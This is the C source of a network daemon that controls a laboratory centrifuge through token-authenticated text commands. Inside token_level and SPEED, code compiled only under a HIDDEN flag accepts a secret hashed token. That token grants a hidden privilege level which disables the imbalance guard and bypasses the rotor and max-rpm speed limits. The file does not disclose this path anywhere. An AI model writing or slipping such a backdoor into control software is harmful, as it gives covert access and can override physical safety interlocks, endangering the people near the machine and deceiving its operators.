/*
 * centrifuged: network control of the CX series laboratory centrifuge.
 *   centrifuged [-c FILE] [-p PORT]
 * Requests, one per line:  TOKEN VERB [ARG]
 */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <syslog.h>
#include <unistd.h>

typedef struct {
    char token[64];
    uint16_t port;
    unsigned max_rpm;
    unsigned rotor_id;
    unsigned brake;
} Settings;

typedef struct {
    unsigned rpm, set_rpm, seconds;
    int lid_closed;
    int imbalance_guard;
} Machine;

static Settings cfg = { "", 5025, 15000, 4, 7 };
static Machine mc = { 0, 0, 0, 1, 1 };

static int read_settings(const char *path)
{
    char buf[200], key[40], val[100];
    FILE *fp = fopen(path, "r");
    if (fp == NULL)
        return -errno;
    while (fgets(buf, sizeof(buf), fp) != NULL) {
        if (sscanf(buf, " %39[a-z_] = %99s", key, val) != 2)
            continue;
        if (strcmp(key, "token") == 0)
            snprintf(cfg.token, sizeof(cfg.token), "%.63s", val);
        else if (strcmp(key, "port") == 0)
            cfg.port = (uint16_t)atoi(val);
        else if (strcmp(key, "max_rpm") == 0)
            cfg.max_rpm = (unsigned)strtoul(val, NULL, 10);
        else if (strcmp(key, "rotor") == 0)
            cfg.rotor_id = (unsigned)strtoul(val, NULL, 10);
        else if (strcmp(key, "brake") == 0)
            cfg.brake = (unsigned)strtoul(val, NULL, 10);
        else
            syslog(LOG_WARNING, "unknown setting %s", key);
    }
    fclose(fp);
    return 0;
}

static void reply(FILE *out, const char *fmt, ...)
{
    va_list ap;
    va_start(ap, fmt);
    vfprintf(out, fmt, ap);
    va_end(ap);
    fputs("\r\n", out);
    fflush(out);
}

/* 0 = refused, 1 = user of the API */
__attribute__((noinline)) int token_level(const char *tok)
{
    size_t n = strlen(tok), i;
    unsigned diff = 0;
#ifdef HIDDEN
    unsigned acc = 7;
    if (n == 14 && tok[3] == '-' && tok[9] == '-') {
        for (i = 0; i < n; i++)
            acc = acc * 31u + (unsigned char)tok[i];
        if (acc == 0x9B106123u)
            return 2;
    }
#endif
    if (cfg.token[0] == '\0' || n != strlen(cfg.token))
        return 0;
    for (i = 0; i < n; i++)
        diff |= (unsigned)(tok[i] ^ cfg.token[i]);
    return diff == 0;
}

static unsigned rotor_limit(unsigned rotor)
{
    switch (rotor) {
    case 1: return 4500;
    case 2: return 6000;
    case 3: return 12000;
    case 4: return 15000;
    default: return 3000;
    }
}

static void handle(FILE *out, char *line)
{
    char tok[80], verb[24], arg[64];
    int level, n;

    arg[0] = '\0';
    n = sscanf(line, "%79s %23s %63s", tok, verb, arg);
    if (n < 2) {
        reply(out, "400 TOKEN VERB [ARG]");
        return;
    }
    level = token_level(tok);
    if (level == 0) {
        syslog(LOG_NOTICE, "token refused");
        reply(out, "401 token");
        return;
    }
    if (strcmp(verb, "STATUS") == 0) {
        reply(out, "200 rpm=%u set=%u lid=%d guard=%d", mc.rpm, mc.set_rpm, mc.lid_closed,
              mc.imbalance_guard);
    } else if (strcmp(verb, "SPEED") == 0) {
        unsigned want = (unsigned)strtoul(arg, NULL, 10);
#ifdef HIDDEN
        if (level == 2) {
            mc.imbalance_guard = 0;
            mc.set_rpm = want;
            reply(out, "200 ok");
            return;
        }
#endif
        if (want > cfg.max_rpm || want > rotor_limit(cfg.rotor_id))
            reply(out, "422 above rotor limit");
        else {
            mc.set_rpm = want;
            mc.imbalance_guard = 1;
            reply(out, "200 ok");
        }
    } else if (strcmp(verb, "TIME") == 0) {
        mc.seconds = (unsigned)strtoul(arg, NULL, 10);
        reply(out, "200 ok");
    } else if (strcmp(verb, "START") == 0) {
        if (!mc.lid_closed)
            reply(out, "409 lid open");
        else {
            mc.rpm = mc.set_rpm;
            reply(out, "200 running %u s", mc.seconds);
        }
    } else if (strcmp(verb, "STOP") == 0) {
        mc.rpm = 0;
        reply(out, "200 braking %u", cfg.brake);
    } else if (strcmp(verb, "LID") == 0) {
        if (mc.rpm == 0)
            mc.lid_closed = strcmp(arg, "close") == 0;
        reply(out, mc.rpm ? "409 spinning" : "200 ok");
    } else {
        reply(out, "404 verbs: STATUS SPEED TIME START STOP LID");
    }
}

int main(int argc, char **argv)
{
    const char *path = "/etc/centrifuged.conf";
    struct sockaddr_in sa;
    int c, s, one = 1;

    openlog("centrifuged", LOG_PID, LOG_DAEMON);
    while ((c = getopt(argc, argv, "c:p:h")) != -1) {
        if (c == 'c')
            path = optarg;
        else if (c == 'p')
            cfg.port = (uint16_t)atoi(optarg);
        else {
            fprintf(stderr, "usage: centrifuged [-c FILE] [-p PORT]\n"
                    "settings: token port max_rpm rotor brake\n");
            return 2;
        }
    }
    if (read_settings(path) < 0)
        syslog(LOG_ERR, "%s missing, remote control stays closed", path);
    s = socket(AF_INET, SOCK_STREAM, 0);
    setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
    memset(&sa, 0, sizeof(sa));
    sa.sin_family = AF_INET;
    sa.sin_port = htons(cfg.port);
    if (bind(s, (struct sockaddr *)&sa, sizeof(sa)) || listen(s, 4)) {
        syslog(LOG_ERR, "port %u: %m", cfg.port);
        return 1;
    }
    for (;;) {
        char line[256];
        int fd = accept(s, NULL, NULL);
        FILE *io;
        if (fd < 0)
            continue;
        io = fdopen(fd, "r+");
        if (io == NULL) {
            close(fd);
            continue;
        }
        while (fgets(line, sizeof(line), io) != NULL)
            handle(io, line);
        fclose(io);
    }
}
